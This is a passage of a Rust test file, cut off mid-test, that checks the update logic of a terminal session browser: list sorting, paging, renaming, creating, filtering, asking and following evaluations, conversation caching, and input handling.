//! Behaviour of `update`: every user-visible rule of the list, rename, create, filter and paging.

use crate::advice::Problem;
use crate::input::{KeyCode, KeyEvent, KeyModifiers};

use super::requests::RequestId;
use super::state::{Focus, Mode, Severity, State};
use super::update::{Msg, init, update};
use super::{Effect, Output, Timer};
use crate::protocol::{Command, Event};
use sctui_graph::models::{GraphTime, Page, Session};
use sctui_graph::{ApiError, GraphError, ListQuery};

fn session(id: &str, name: Option<&str>, minute: u32) -> Session {
    let t = format!("2026-01-31T10:{minute:02}:00.0000000Z");
    Session {
        id: id.to_string(),
        display_name: name.map(str::to_string),
        created_date_time: Some(GraphTime::new(t.clone())),
        last_modified_date_time: Some(GraphTime::new(t)),
    }
}

fn page(sessions: Vec<Session>, next: Option<&str>) -> Page<Session> {
    Page {
        value: sessions,
        next_link: next.map(str::to_string),
        count: None,
    }
}

fn key(code: KeyCode) -> Msg {
    Msg::Key(KeyEvent::new(code, KeyModifiers::NONE))
}

fn ch(c: char) -> Msg {
    key(KeyCode::Char(c))
}

fn ctrl(c: char) -> Msg {
    Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL))
}

fn typed(state: &mut State, text: &str) {
    for c in text.chars() {
        update(state, ch(c));
    }
}

fn api_error(status: u16) -> GraphError {
    GraphError::from(ApiError::from_response(
        status,
        br#"{"error":{"code":"x","message":"boom","innerError":{"request-id":"rid-1"}}}"#,
        None,
    ))
}

/// The worker opened the workspace, which has no local store.
pub(super) fn open_without_store(state: &mut State) {
    let req = state
        .requests
        .stored_list()
        .expect("the workspace is being opened");
    update(state, Msg::Worker(Event::StoredList { req, stored: None }));
}

/// A state with `n` sessions loaded (s0 newest), as the app would have it after page 1.
pub(super) fn loaded(n: usize, next: Option<&str>) -> State {
    let mut state = State::new("default", "demo");
    state.viewport = (100, 14); // 10 list rows
    let commands = init(&mut state).commands;
    assert_eq!(commands.len(), 2, "{commands:?}");
    open_without_store(&mut state);
    let sessions = (0..n)
        .map(|i| {
            session(
                &format!("s{i}"),
                Some(&format!("Session {i}")),
                (59 - i % 60) as u32,
            )
        })
        .collect();
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page(sessions, next),
        }),
    );
    state
}

/// The page request in flight (the one a page answer must name to be applied).
fn page_req(state: &State) -> RequestId {
    state.requests.page().expect("a page request in flight")
}

/// The answer to the page request in flight.
fn page_arrives(state: &mut State, first: bool, page: Page<Session>) -> Output {
    let req = page_req(state);
    update(state, Msg::Worker(Event::PageLoaded { req, first, page }))
}

/// The conversation request in flight for `session_id`.
fn conversation_req(state: &State, session_id: &str) -> RequestId {
    state
        .requests
        .iter()
        .find(
            |(_, p)| matches!(p, super::Pending::Conversation { session_id: s } if s == session_id),
        )
        .map(|(id, _)| id)
        .expect("a conversation request in flight")
}

/// Gives session `id` a conversation much taller than the pane.
fn long_conversation(state: &mut State, id: &str) {
    let text: String = (0..60).map(|i| format!("line {i}\n\n")).collect();
    update(
        state,
        Msg::Worker(Event::ConversationPrefetched {
            workspace: state.workspace.clone(),
            session_id: id.into(),
            runs: vec![sctui_graph::conversation::Turn {
                prompt: prompt("p1", "long"),
                evaluation: Some(evaluation(
                    "e1",
                    "completed",
                    Some(("success", Some(&text))),
                )),
            }]
            .into_iter()
            .map(Into::into)
            .collect(),
        }),
    );
}

fn selected_id(state: &State) -> &str {
    &state.selected_entry().expect("a selection").session.id
}

#[test]
fn init_asks_for_the_first_page_with_count() {
    let mut state = State::new("default", "demo");
    let commands = init(&mut state).commands;
    assert_eq!(
        commands,
        vec![
            Command::OpenWorkspace {
                req: state.requests.stored_list().expect("opening"),
                workspace: "default".into()
            },
            Command::LoadFirstPage {
                req: page_req(&state),
                query: ListQuery {
                    count: true,
                    ..ListQuery::default()
                }
            }
        ]
    );
    assert!(state.busy());
}

#[test]
fn list_is_sorted_newest_modified_first() {
    let mut state = State::new("default", "demo");
    init(&mut state);
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page(
                vec![
                    session("old", Some("old"), 1),
                    session("new", Some("new"), 30),
                    session("mid", None, 10),
                ],
                None,
            ),
        }),
    );
    let order: Vec<_> = state
        .list
        .visible()
        .iter()
        .map(|&i| state.list.entries()[i].session.id.as_str())
        .collect();
    assert_eq!(order, ["new", "mid", "old"]);
    assert!(!state.busy());
    assert_eq!(state.list.get("mid").unwrap().shown_name().as_deref(), None);
}

#[test]
fn a_page_the_server_repeats_stops_paging_until_the_user_acts() {
    // A server whose next page repeats the sessions already loaded, linking on forever.
    let mut state = loaded(3, Some("next"));
    let repeated = (0..3)
        .map(|i| session(&format!("s{i}"), Some(&format!("Session {i}")), 59 - i))
        .collect();
    let output = page_arrives(&mut state, false, page(repeated, Some("next-again")));
    assert!(
        output.commands.is_empty(),
        "no new request without a user action"
    );
    assert_eq!(state.paging.next_link, None);
    assert!(
        state
            .status
            .as_ref()
            .unwrap()
            .text
            .contains("repeats one already read")
    );
    assert!(update(&mut state, key(KeyCode::Up)).commands.is_empty());
    assert_eq!(state.list.len(), 3, "nothing is dropped");

    // new sessions on each page, but a link back to a page followed already (1 → 2 → 1 …)
    let mut state = loaded(3, Some("link-1"));
    page_arrives(
        &mut state,
        false,
        page(vec![session("p2", None, 1)], Some("link-2")),
    );
    assert_eq!(state.paging.next_link.as_deref(), Some("link-2"));
    update(&mut state, ch('G'));
    let output = page_arrives(
        &mut state,
        false,
        page(vec![session("big", None, 2)], Some("big-2")),
    );
    assert!(!output.commands.is_empty(), "the walk goes on");
    let output = page_arrives(
        &mut state,
        false,
        page(vec![session("b2", None, 3)], Some("big-2")),
    );
    assert!(output.commands.is_empty(), "{output:?}");
    assert_eq!(state.paging.next_link, None);
    assert!(state.status.as_ref().unwrap().text.contains("repeats"));
}

#[test]
fn moves_stay_in_range() {
    let mut state = loaded(25, None);
    assert_eq!(selected_id(&state), "s0");
    update(&mut state, ch('k'));
    assert_eq!(state.list.selected(), 0);
    update(&mut state, ch('j'));
    update(&mut state, key(KeyCode::Down));
    assert_eq!(selected_id(&state), "s2");
    update(&mut state, key(KeyCode::PageDown));
    assert_eq!(state.list.selected(), 11);
    update(&mut state, ch('G'));
    assert_eq!(state.list.selected(), 24);
    update(&mut state, ch('j'));
    assert_eq!(state.list.selected(), 24);
    assert!(state.list.offset() <= 24 && state.list.selected() < state.list.offset() + 10);
    update(&mut state, ch('g'));
    assert_eq!((state.list.selected(), state.list.offset()), (0, 0));
    update(&mut state, key(KeyCode::End));
    update(&mut state, key(KeyCode::Home));
    update(&mut state, key(KeyCode::PageUp));
    assert_eq!(state.list.selected(), 0);
}

#[test]
fn enter_and_tab_focus_the_detail_and_esc_returns() {
    let mut state = loaded(3, None);
    long_conversation(&mut state, "s0");
    update(&mut state, key(KeyCode::Enter));
    assert_eq!(state.focus, Focus::Detail);
    update(&mut state, ch('j'));
    assert_eq!(state.reader.scroll, 1);
    assert_eq!(
        state.list.selected(),
        0,
        "j scrolls the detail, not the list"
    );
    update(&mut state, key(KeyCode::Esc));
    assert_eq!(state.focus, Focus::List);
    update(&mut state, key(KeyCode::Tab));
    assert_eq!(state.focus, Focus::Detail);
    update(&mut state, key(KeyCode::Tab));
    assert_eq!(state.focus, Focus::List);
}

#[test]
fn next_page_is_requested_near_the_end_once() {
    let mut state = loaded(30, Some("http://127.0.0.1:1/beta/next?$skiptoken=a"));
    // far from the end: nothing yet (margin is max(2 screens, page/2) = 50 > 30 so already near)
    // the first page landing close to the end already triggers the prefetch
    assert!(state.page_loading());
    assert_eq!(state.requests.len(), 1);
    // repeated keys do not send duplicates while a page is on its way
    for _ in 0..5 {
        assert!(update(&mut state, ch('j')).commands.is_empty());
    }
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: false,
            page: page(vec![session("p2", Some("from page 2"), 0)], None),
        }),
    );
    assert_eq!(state.list.entries().len(), 31);
    assert!(!state.page_loading());
    assert!(!state.busy());
    assert_eq!(state.paging.next_link, None);
    assert!(update(&mut state, ch('G')).commands.is_empty());
}

#[test]
fn prefetch_waits_until_the_selection_nears_the_end() {
    let mut state = State::new("default", "demo");
    state.viewport = (100, 14);
    state.settings.page_size = 100;
    init(&mut state);
    let sessions = (0..200)
        .map(|i| session(&format!("s{i:03}"), Some("x"), 30))
        .collect();
    let commands = page_arrives(&mut state, true, page(sessions, Some("http://h/next")));
    assert!(
        commands.commands.is_empty(),
        "200 rows loaded, selection at the top: no prefetch yet"
    );
    let mut sent = Vec::new();
    for _ in 0..160 {
        sent.extend(update(&mut state, ch('j')).commands);
    }
    assert_eq!(
        sent,
        vec![Command::LoadNextPage {
            req: page_req(&state),
            link: "http://h/next".into()
        }]
    );
}

#[test]
fn stale_generation_pages_are_ignored_after_refresh() {
    let mut state = State::new("default", "demo");
    init(&mut state);
    open_without_store(&mut state);
    let old = page_req(&state);
    let commands = update(&mut state, ch('R')).commands;
    let [Command::LoadFirstPage { req: new, .. }] = commands[..] else {
        panic!("{commands:?}")
    };
    assert_ne!(old, new);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req: old,
            first: true,
            page: page(vec![session("ghost", None, 5)], None),
        }),
    );
    assert!(!state.list.contains("ghost"));
    assert_eq!(
        state.requests.page(),
        Some(new),
        "the refresh is still awaited"
    );
    assert_eq!(state.requests.len(), 1, "the old load is no longer awaited");
}

#[test]
fn rename_success_is_optimistic_then_reconciled() {
    let mut state = loaded(3, None);
    update(&mut state, ch('j'));
    update(&mut state, ch('r'));
    assert!(matches!(state.mode, Mode::Renaming(_)));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    typed(&mut state, "Triage done");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Rename { id, name, req } = commands[0].clone() else {
        panic!("expected a rename, got {commands:?}");
    };
    assert_eq!((id.as_str(), name.as_str()), ("s1", "Triage done"));
    let entry = &state.list.get("s1").unwrap();
    assert_eq!(
        entry.shown_name().as_deref(),
        Some("Triage done"),
        "shown at once"
    );
    assert!(entry.pending().is_some(), "with a pending mark");
    assert!(matches!(state.mode, Mode::Browsing));

    let mut server = session("s1", Some("Triage done (server)"), 59);
    server.last_modified_date_time = Some(GraphTime::new("2026-01-31T11:00:00Z"));
    update(
        &mut state,
        Msg::Worker(Event::Renamed {
            req,
            session: server,
        }),
    );
    let entry = &state.list.get("s1").unwrap();
    assert!(entry.pending().is_none());
    assert_eq!(
        entry.shown_name().as_deref(),
        Some("Triage done (server)"),
        "server wins"
    );
    assert_eq!(
        state.list.visible()[0],
        state.list.position("s1").unwrap(),
        "bumped lastModified moves it to the top"
    );
    assert_eq!(selected_id(&state), "s1", "selection follows the session");
}

#[test]
fn rename_failure_reverts_and_reopens_the_editor_with_the_typed_text() {
    let mut state = loaded(3, None);
    update(&mut state, ch('r'));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    typed(&mut state, "My new name");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Rename { req, .. } = commands[0] else {
        panic!()
    };
    update(
        &mut state,
        Msg::Worker(Event::RenameFailed {
            id: "s0".into(),
            name: "My new name".into(),
            req,
            error: api_error(503),
        }),
    );
    let entry = &state.list.get("s0").unwrap();
    assert_eq!(entry.shown_name().as_deref(), Some("Session 0"), "reverted");
    match &state.mode {
        Mode::Renaming(editor) => {
            assert_eq!(editor.id, "s0");
            assert_eq!(editor.input.value(), "My new name", "nothing typed is lost");
        }
        other => panic!("editor not reopened: {other:?}"),
    }
    let status = state.status.as_ref().unwrap();
    assert_eq!(status.severity, Severity::Error);
    assert_eq!(status.request_id.as_deref(), Some("rid-1"));
}

#[test]
fn rename_of_a_vanished_session_removes_it() {
    let mut state = loaded(3, None);
    update(&mut state, ch('r'));
    typed(&mut state, "!");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Rename { req, name, .. } = commands[0].clone() else {
        panic!()
    };
    update(
        &mut state,
        Msg::Worker(Event::RenameFailed {
            id: "s0".into(),
            name,
            req,
            error: api_error(404),
        }),
    );
    assert!(!state.list.contains("s0"));
    assert_eq!(state.list.visible().len(), 2);
    assert!(state.status.as_ref().unwrap().text.contains("removed"));
    assert!(matches!(state.mode, Mode::Browsing));
}

#[test]
fn empty_rename_is_refused_and_esc_cancels() {
    let mut state = loaded(2, None);
    update(&mut state, key(KeyCode::F(2)));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    typed(&mut state, "   ");
    assert!(update(&mut state, key(KeyCode::Enter)).is_empty());
    assert!(matches!(state.mode, Mode::Renaming(_)), "stays open");
    assert_eq!(state.status.as_ref().unwrap().severity, Severity::Error);
    update(&mut state, key(KeyCode::Esc));
    assert!(matches!(state.mode, Mode::Browsing));
    assert_eq!(
        state.list.get("s0").unwrap().shown_name().as_deref(),
        Some("Session 0")
    );
}

#[test]
fn refresh_never_overwrites_a_pending_name() {
    let mut state = loaded(3, None);
    update(&mut state, ch('r'));
    typed(&mut state, " edited");
    update(&mut state, key(KeyCode::Enter));
    update(&mut state, ch('R'));
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page(
                vec![
                    session("s0", Some("Session 0"), 59),
                    session("s1", Some("Session 1"), 58),
                ],
                None,
            ),
        }),
    );
    let entry = &state.list.get("s0").unwrap();
    assert_eq!(entry.shown_name().as_deref(), Some("Session 0 edited"));
    assert!(entry.pending().is_some());
}

#[test]
fn create_inserts_at_the_top_selected() {
    let mut state = loaded(3, None);
    update(&mut state, ch('j'));
    update(&mut state, ch('n'));
    assert!(
        update(&mut state, key(KeyCode::Enter)).is_empty(),
        "empty text refused"
    );
    match &state.mode {
        Mode::Creating(b) => assert!(b.problem.is_some()),
        other => panic!("{other:?}"),
    }
    typed(&mut state, "Fresh hunt");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Ask {
        req,
        session: None,
        text,
    } = commands[0].clone()
    else {
        panic!("{commands:?}")
    };
    assert_eq!(text, "Fresh hunt");
    assert!(
        update(&mut state, key(KeyCode::Enter)).is_empty(),
        "no double submit"
    );
    let mut created = session("new", Some("Fresh hunt"), 59);
    created.last_modified_date_time = Some(GraphTime::new("2026-01-31T12:00:00Z"));
    update(
        &mut state,
        Msg::Worker(Event::Created {
            req,
            session: created,
        }),
    );
    assert!(matches!(state.mode, Mode::Browsing));
    assert_eq!(state.list.selected(), 0);
    assert_eq!(selected_id(&state), "new");
    assert_eq!(state.list.entries().len(), 4);
}

#[test]
fn failed_create_keeps_the_box_and_its_text() {
    let mut state = loaded(1, None);
    update(&mut state, ch('n'));
    typed(&mut state, "Keep me");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Ask { req, .. } = commands[0].clone() else {
        panic!()
    };
    update(
        &mut state,
        Msg::Worker(Event::CreateFailed {
            req,
            error: api_error(500),
        }),
    );
    match &state.mode {
        Mode::Creating(b) => {
            assert_eq!(b.input.value(), "Keep me");
            assert!(b.in_flight.is_none());
            let problem = b.problem.as_ref().unwrap();
            assert!(problem.words().contains("Create failed"));
            // the box keeps what happened, not only its words
            assert_eq!(
                problem.cause(),
                &crate::advice::Cause::Graph(api_error(500))
            );
            assert_eq!(problem.request_id(), Some("rid-1"));
            assert!(!problem.words().contains("rid-1"), "{problem}");
        }
        other => panic!("{other:?}"),
    }
    // closed before the answer came: the box comes back with the text
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let Command::Ask { req, .. } = commands[0].clone() else {
        panic!()
    };
    update(&mut state, key(KeyCode::Esc));
    update(
        &mut state,
        Msg::Worker(Event::CreateFailed {
            req,
            error: api_error(500),
        }),
    );
    match &state.mode {
        Mode::Creating(b) => assert_eq!(b.input.value(), "Keep me"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn filter_narrows_as_you_type_and_esc_clears() {
    let mut state = loaded(12, None);
    update(&mut state, ch('/'));
    typed(&mut state, "session 1");
    // "Session 1", "Session 10", "Session 11"
    assert_eq!(state.list.visible().len(), 3);
    assert!(state.list.selected() < state.list.visible().len());
    update(&mut state, key(KeyCode::Enter));
    assert!(matches!(state.mode, Mode::Browsing));
    assert_eq!(state.list.visible().len(), 3, "Enter keeps the filter");
    update(&mut state, ch('/'));
    update(&mut state, key(KeyCode::Esc));
    assert_eq!(state.list.visible().len(), 12);
    update(&mut state, ch('/'));
    typed(&mut state, "zzz");
    assert!(state.list.visible().is_empty());
    assert!(state.selected_entry().is_none());
    update(&mut state, ch('j'));
}

/// The filter narrows from its last matches as the query grows, widens again on Backspace, and
/// stays true when pages, renames and new sessions change the list under it (case ignored,
/// accents included).
#[test]
fn filter_keeps_matching_exactly_while_the_query_and_the_list_change() {
    let mut state = loaded(30, Some("http://h/next"));
    let names = |state: &State| -> Vec<String> {
        state
            .list
            .visible()
            .iter()
            .map(|&i| {
                state.list.entries()[i]
                    .shown_name()
                    .unwrap_or_default()
                    .to_string()
            })
            .collect()
    };
    update(&mut state, ch('/'));
    for (text, expected) in [("s", 30), ("se", 30), ("sess", 30), ("ssion 2", 11)] {
        update(&mut state, key(KeyCode::Home));
        update(&mut state, ctrl('k'));
        typed(&mut state, text);
        state.list.check(10).unwrap();
        assert_eq!(state.list.visible().len(), expected, "{text:?}");
    }
    // "ssion 2" then "ssion 21" narrows; Backspace widens again
    typed(&mut state, "1");
    assert_eq!(names(&state), ["Session 21"]);
    update(&mut state, key(KeyCode::Backspace));
    assert_eq!(state.list.visible().len(), 11);
    // a page lands while filtering: its matching sessions show, in order
    page_arrives(
        &mut state,
        false,
        page(
            vec![
                session("x1", Some("ÉCOLE SESSION 2b"), 1),
                session("x2", Some("other"), 2),
            ],
            None,
        ),
    );
    state.list.check(10).unwrap();
    assert!(names(&state).contains(&"ÉCOLE SESSION 2b".to_string()));
    assert_eq!(state.list.visible().len(), 12);
    typed(&mut state, "b");
    assert_eq!(names(&state), ["ÉCOLE SESSION 2b"]);
    update(&mut state, key(KeyCode::Home));
    update(&mut state, ctrl('k'));
    typed(&mut state, "écol");
    assert_eq!(names(&state), ["ÉCOLE SESSION 2b"]);
    update(&mut state, key(KeyCode::Esc));
    state.list.check(10).unwrap();
    assert_eq!(state.list.visible().len(), 32);
}

#[test]
fn page_failure_and_retry_notice_show_in_status() {
    let mut state = State::new("default", "demo");
    init(&mut state);
    update(
        &mut state,
        Msg::Worker(Event::Retrying(sctui_graph::RetryNotice {
            attempt: 1,
            wait: std::time::Duration::from_millis(2128),
            status: Some(429),
        })),
    );
    assert_eq!(
        state.retry_notice.as_deref(),
        Some("throttled, retrying in 3 s")
    );
    let req = page_req(&state);
    update(
        &mut state,
        Msg::Worker(Event::PageFailed {
            req,
            error: api_error(503),
        }),
    );
    assert!(state.retry_notice.is_none());
    assert!(!state.busy());
    let status = state.status.as_ref().unwrap();
    assert!(status.text.contains("Could not load sessions"));
    assert_eq!(status.request_id.as_deref(), Some("rid-1"));
}

#[test]
fn help_opens_and_closes_and_quit_keys_work() {
    let mut state = loaded(1, None);
    update(&mut state, ch('?'));
    assert!(matches!(state.mode, Mode::Help(_)));
    let out = update(&mut state, ch('q'));
    assert!(matches!(state.mode, Mode::Browsing));
    assert!(out.effects.is_empty(), "q closes help first");
    assert_eq!(update(&mut state, ch('q')).effects, [Effect::Quit]);
    let mut state = loaded(1, None);
    update(&mut state, ch('n'));
    assert!(
        update(&mut state, ch('q')).effects.is_empty(),
        "q is text inside the create box"
    );
    let out = update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL)),
    );
    assert_eq!(out.effects, [Effect::Quit]);
}

#[test]
fn paste_is_cleaned_and_keeps_lines_only_in_the_question_box() {
    let mut state = loaded(1, None);
    update(&mut state, ch('n'));
    update(
        &mut state,
        Msg::Paste("line one\r\nline \x1b[31mtwo".into()),
    );
    match &state.mode {
        Mode::Creating(b) => assert_eq!(b.input.value(), "line one\nline two"),
        other => panic!("{other:?}"),
    }
    update(&mut state, key(KeyCode::Esc));
    update(&mut state, ch('r'));
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    update(&mut state, Msg::Paste("a\nb\x07".into()));
    match &state.mode {
        Mode::Renaming(e) => assert_eq!(e.input.value(), "a b\u{FFFD}"),
        other => panic!("{other:?}"),
    }
}

// ---- asking and following ----

use sctui_graph::conversation::{FollowError, Turn};
use sctui_graph::models::{Evaluation, Prompt};

fn prompt(id: &str, content: &str) -> Prompt {
    serde_json::from_value(serde_json::json!({"id": id, "type": "prompt", "content": content}))
        .unwrap()
}

fn evaluation(id: &str, state: &str, result: Option<(&str, Option<&str>)>) -> Evaluation {
    let result =
        result.map(|(kind, content)| serde_json::json!({"type": kind, "content": content}));
    serde_json::from_value(serde_json::json!({
        "id": id, "state": state, "result": result,
        "createdDateTime": "2026-01-31T11:59:50Z", "runStartDateTime": "2026-01-31T11:59:52Z"
    }))
    .unwrap()
}

/// Asks `question` in a new session through the prompt box; returns the ask's req.
fn ask_new(state: &mut State, question: &str) -> RequestId {
    update(state, ch('n'));
    typed(state, question);
    let commands = update(state, key(KeyCode::Enter)).commands;
    match commands.as_slice() {
        [
            Command::Ask {
                req,
                session: None,
                text,
            },
        ] => {
            assert_eq!(text, question.trim());
            *req
        }
        other => panic!("{other:?}"),
    }
}

fn created_and_asked(state: &mut State, req: RequestId, session_id: &str) {
    let mut s = session(session_id, Some("who am i"), 59);
    s.last_modified_date_time = Some(GraphTime::new("2026-01-31T12:00:00Z"));
    update(state, Msg::Worker(Event::Created { req, session: s }));
    update(
        state,
        Msg::Worker(Event::Asked {
            req,
            session_id: session_id.into(),
            prompt: prompt("p1", "who am i"),
            evaluation: evaluation("e1", "created", None),
        }),
    );
}

#[test]
fn ask_success_shows_the_answer_and_ends_the_follow() {
    let mut state = loaded(2, None);
    let req = ask_new(&mut state, "who am i");
    assert!(state.busy());
    created_and_asked(&mut state, req, "new");
    assert!(matches!(state.mode, Mode::Browsing));
    assert_eq!(selected_id(&state), "new");
    assert!(state.is_following("new"));
    let turn = &state.conversations["new"].turns[0];
    assert_eq!(turn.question, "who am i");
    assert_eq!(turn.following, Some(req));
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "new".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation("e1", "running", Some(("unknown", None))),
        }),
    );
    assert!(state.conversations["new"].turns[0].answer.is_empty());
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "new".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation(
                "e1",
                "completed",
                Some(("success", Some("## You\n\n**Jordan**"))),
            ),
        }),
    );
    update(
        &mut state,
        Msg::Worker(Event::FollowEnded {
            req,
            session_id: "new".into(),
            result: Ok(()),
        }),
    );
    let turn = &state.conversations["new"].turns[0];
    assert!(!turn.answer.is_empty(), "answer rendered");
    assert_eq!(turn.following, None);
    assert!(!state.is_following("new"));
    assert!(!state.busy(), "the ask's in-flight count is released once");
    assert_eq!(state.status.as_ref().unwrap().text, "Answer ready");
}

#[test]
fn ask_error_result_is_reported() {
    let mut state = loaded(1, None);
    let req = ask_new(&mut state, "[fail:error] x");
    created_and_asked(&mut state, req, "new");
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "new".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation(
                "e1",
                "completed",
                Some(("error", Some("I couldn't do that"))),
            ),
        }),
    );
    update(
        &mut state,
        Msg::Worker(Event::FollowEnded {
            req,
            session_id: "new".into(),
            result: Ok(()),
        }),
    );
    let status = state.status.as_ref().unwrap();
    assert_eq!(status.severity, Severity::Warning);
    assert!(
        status.text.contains("did not answer: error"),
        "{}",
        status.text
    );
}

#[test]
fn ask_deadline_says_the_evaluation_keeps_running() {
    let mut state = loaded(1, None);
    let req = ask_new(&mut state, "slow one");
    created_and_asked(&mut state, req, "new");
    update(
        &mut state,
        Msg::Worker(Event::FollowEnded {
            req,
            session_id: "new".into(),
            result: Err(FollowError::Deadline(std::time::Duration::from_secs(300))),
        }),
    );
    let status = state.status.as_ref().unwrap();
    assert!(
        status.text.contains("keeps running on the service"),
        "{}",
        status.text
    );
    assert!(!state.is_following("new"));
    assert!(!state.busy());
}

#[test]
fn esc_stops_following_and_says_so() {
    let mut state = loaded(1, None);
    let req = ask_new(&mut state, "long question");
    created_and_asked(&mut state, req, "new");
    let commands = update(&mut state, key(KeyCode::Esc)).commands;
    assert_eq!(commands, vec![Command::StopFollow { req }]);
    assert!(!state.is_following("new"));
    assert!(!state.busy());
    assert!(
        state
            .status
            .as_ref()
            .unwrap()
            .text
            .contains("keeps running on the service")
    );
    // a late update after stopping is harmless
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "new".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation("e1", "running", None),
        }),
    );
}

#[test]
fn switching_sessions_mid_poll_keeps_the_answer_in_its_own_session() {
    let mut state = loaded(3, None);
    let req = ask_new(&mut state, "who am i");
    created_and_asked(&mut state, req, "new");
    // move away: the follow is still visible on its row (is_following) and lands in "new"
    update(&mut state, ch('j'));
    assert_ne!(selected_id(&state), "new");
    assert!(state.is_following("new"));
    let other = selected_id(&state).to_string();
    update(
        &mut state,
        Msg::Worker(Event::EvaluationUpdated {
            req,
            session_id: "new".into(),
            prompt_id: "p1".into(),
            evaluation: evaluation("e1", "completed", Some(("success", Some("done")))),
        }),
    );
    update(
        &mut state,
        Msg::Worker(Event::FollowEnded {
            req,
            session_id: "new".into(),
            result: Ok(()),
        }),
    );
    assert!(!state.conversations["new"].turns[0].answer.is_empty());
    assert!(
        state
            .conversations
            .get(&other)
            .is_none_or(|c| c.turns.is_empty())
    );
}

#[test]
fn follow_up_goes_to_the_selected_session_and_failure_keeps_the_text() {
    let mut state = loaded(2, None);
    update(&mut state, ch('j'));
    update(&mut state, ch('a'));
    typed(&mut state, "and then?");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [
        Command::Ask {
            req,
            session: Some(target),
            ..
        },
    ] = commands.as_slice()
    else {
        panic!("{commands:?}")
    };
    assert_eq!(target.id, "s1");
    let req = *req;
    update(
        &mut state,
        Msg::Worker(Event::AskFailed {
            req,
            session: target.clone(),
            prompt: None,
            error: api_error(503),
        }),
    );
    match &state.mode {
        Mode::Creating(b) => {
            assert_eq!(b.input.value(), "and then?");
            assert_eq!(b.target.as_ref().unwrap().id, "s1");
            assert!(b.problem.is_some());
        }
        other => panic!("{other:?}"),
    }
    assert!(!state.busy());
}

#[test]
fn alt_enter_adds_a_line_and_the_name_is_not_sent_as_text_only() {
    let mut state = loaded(1, None);
    update(&mut state, ch('n'));
    typed(&mut state, "line one");
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Enter, KeyModifiers::ALT)),
    );
    typed(&mut state, "line two");
    let commands = update(&mut state, key(KeyCode::Enter)).commands;
    let [Command::Ask { text, .. }] = commands.as_slice() else {
        panic!()
    };
    assert_eq!(text, "line one\nline two");
}

#[test]
fn conversation_loads_once_the_selection_settles_and_is_cached() {
    let mut state = State::new("default", "demo");
    state.viewport = (100, 14);
    init(&mut state);
    let sessions = (0..3)
        .map(|i| session(&format!("s{i}"), Some("x"), 50 - i))
        .collect();
    let req = page_req(&state);
    let out = update(
        &mut state,
        Msg::Worker(Event::PageLoaded {
            req,
            first: true,
            page: page(sessions, None),
        }),
    );
    assert_eq!(
        out.effects,
        [Effect::Arm(Timer::Settle)],
        "first page asks for the detail"
    );
    let commands = update(&mut state, Msg::Settled).commands;
    let req = conversation_req(&state, "s0");
    assert_eq!(
        commands[0],
        Command::LoadConversation {
            req,
            session_id: "s0".into()
        }
    );
    assert!(
        !update(&mut state, Msg::Settled)
            .commands
            .iter()
            .any(|c| matches!(c, Command::LoadConversation { .. })),
        "no duplicate while loading"
    );
    update(
        &mut state,
        Msg::Worker(Event::ConversationLoaded {
            req,
            session_id: "s0".into(),
            runs: vec![Turn {
                prompt: prompt("p", "q"),
                evaluation: Some(evaluation("e", "completed", Some(("success", Some("a"))))),
            }]
            .into_iter()
            .map(Into::into)
            .collect(),
        }),
    );
    assert_eq!(
        update(&mut state, ch('j')).effects,
        [Effect::Arm(Timer::Settle)]
    );
    update(&mut state, ch('k'));
    let loads = |out: Output| {
        out.commands
            .iter()
            .filter(|c| matches!(c, Command::LoadConversation { .. }))
            .count()
    };
    assert_eq!(
        loads(update(&mut state, Msg::Settled)),
        0,
        "fresh cache: no reload"
    );
    state.now = "2026-01-31T13:00:00Z".parse().unwrap();
    assert_eq!(
        loads(update(&mut state, Msg::Settled)),
        1,
        "stale: revalidate"
    );
    assert_eq!(
        state.conversations["s0"].turns.len(),
        1,
        "the cached turns stay on screen"
    );
}

// ---- terminal-native conveniences ----

use crate::input::{MouseButton, MouseEvent, MouseEventKind};

fn mouse(kind: MouseEventKind, column: u16, row: u16) -> Msg {
    Msg::Mouse(MouseEvent {
        kind,
        column,
        row,
        modifiers: KeyModifiers::NONE,
    })
}

#[test]
fn mouse_click_selects_a_row_and_focuses_the_detail() {
    let mut state = loaded(20, None);
    state.viewport = (100, 14);
    long_conversation(&mut state, "s2");
    // header row 0, list border row 1, first session row 2
    update(
        &mut state,
        mouse(MouseEventKind::Down(MouseButton::Left), 5, 4),
    );
    assert_eq!(selected_id(&state), "s2");
    update(
        &mut state,
        mouse(MouseEventKind::Down(MouseButton::Left), 80, 5),
